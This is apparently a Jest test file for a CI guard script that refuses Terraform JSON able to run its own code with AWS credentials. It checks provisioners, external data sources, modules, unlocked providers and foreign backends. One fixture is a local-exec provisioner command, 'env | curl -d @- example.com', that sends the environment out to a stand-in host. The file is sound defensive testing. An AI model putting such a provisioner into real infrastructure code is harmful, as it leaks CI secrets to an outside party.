/**
 * delivery/terraform-json-guard.sh refuses synthesized Terraform JSON that would run code of its own
 * in a credentialed job: each broken stack below differs from an accepted one by one thing.
 */
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

const ROOT = join(__dirname, '..');
const LOCK = 'provider "registry.terraform.io/hashicorp/aws" {\n  version     = "6.25.0"\n  constraints = "6.25.0"\n}\n';

type Stack = Record<string, unknown>;
const base = (): Stack => ({
  terraform: {
    required_providers: { aws: { source: 'aws', version: '6.25.0' } },
    backend: { s3: { bucket: 'ubb-terraform-state-111111111111', key: 'billing-dev/terraform.tfstate', region: 'eu-west-1' } },
  },
  provider: { aws: [{ region: 'eu-west-1' }] },
  resource: { aws_s3_bucket: { logs: { bucket: 'ubb-dev-logs' } } },
  data: { aws_secretsmanager_random_password: { origin: { password_length: 32 } } },
});

let dir: string;
beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'tf-json-guard-'));
  writeFileSync(join(dir, 'lock.hcl'), LOCK);
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

function guard(stack: Stack, lock = join(dir, 'lock.hcl')): { code: number | null; out: string } {
  const file = join(dir, 'cdk.tf.json');
  writeFileSync(file, JSON.stringify(stack));
  const run = spawnSync('bash', ['delivery/terraform-json-guard.sh', lock, file], { cwd: ROOT, encoding: 'utf8' });
  if (run.error) throw run.error;
  return { code: run.status, out: `${run.stdout}${run.stderr}` };
}

test('accepts a stack that uses only the locked AWS provider', () => {
  expect(guard(base())).toEqual({ code: 0, out: expect.stringContaining('Terraform JSON checked') as unknown as string });
});

test('without a lock file on main yet, only hashicorp/aws is accepted', () => {
  expect(guard(base(), join(dir, 'missing.hcl')).code).toBe(0);
  const other = base();
  (other.terraform as Stack).required_providers = { aws: { source: 'aws' }, null: { source: 'hashicorp/null' } };
  expect(guard(other, join(dir, 'missing.hcl')).out).toContain("provider null (registry.terraform.io/hashicorp/null) is not in main's provider lock file");
});

test.each<[string, (s: Stack) => void, string]>([
  [
    'another provider',
    (s) => ((s.terraform as Stack).required_providers = { aws: { source: 'aws' }, evil: { source: 'example/evil' } }),
    "provider evil (registry.terraform.io/example/evil) is not in main's provider lock file",
  ],
  ['a provider block for an unlocked provider', (s) => ((s.provider as Stack).external = [{}]), 'provider block external names a provider'],
  [
    'a local-exec provisioner',
    (s) => ((s.resource as Stack).terraform_data = { run: { provisioner: [{ 'local-exec': { command: 'env | curl -d @- example.com' } }] } }),
    'resource.terraform_data.run has a provisioner',
  ],
  [
    'a provisioner in a resource written as a list',
    (s) => ((s.resource as Stack).terraform_data = { run: [{ provisioner: { 'local-exec': { command: 'env' } } }] }),
    'resource.terraform_data.run.0 has a provisioner',
  ],
  [
    'a provisioner in a resource block written as a list',
    (s) => (s.resource = [{ terraform_data: { run: { provisioner: { 'local-exec': { command: 'env' } } } } }]),
    'resource.0.terraform_data.run has a provisioner',
  ],
  ['an external data source written as a list', (s) => (s.data = [{ external: { run: { program: ['sh'] } } }]), 'data source "external" runs a program'],
  ['an external data source', (s) => ((s.data as Stack).external = { run: { program: ['sh', '-c', 'env'] } }), 'data source "external" runs a program'],
  ['a module', (s) => (s.module = { remote: { source: 'git::https://example.com/x.git' } }), 'module remote is not allowed'],
  ['another backend', (s) => ((s.terraform as Stack).backend = { http: { address: 'https://example.com/state' } }), 'backend http is not the S3 state backend'],
  ['a provider without a source', (s) => ((s.terraform as Stack).required_providers = { aws: '6.25.0' }), 'provider aws has no source'],
])('refuses %s, saying what and why', (_what, breakIt, message) => {
  const stack = base();
  breakIt(stack);
  const result = guard(stack);
  expect(result.code).toBe(1);
  expect(result.out).toContain(message);
  expect(result.out).toContain('Refused: this Terraform JSON would run code of its own with AWS credentials.');
});

test('refuses a file that is not JSON', () => {
  const file = join(dir, 'broken.json');
  writeFileSync(file, '{ not json');
  const run = spawnSync('bash', ['delivery/terraform-json-guard.sh', join(dir, 'lock.hcl'), file], { cwd: ROOT, encoding: 'utf8' });
  expect(run.status).toBe(1);
  expect(run.stdout).toContain('not valid Terraform JSON');
});
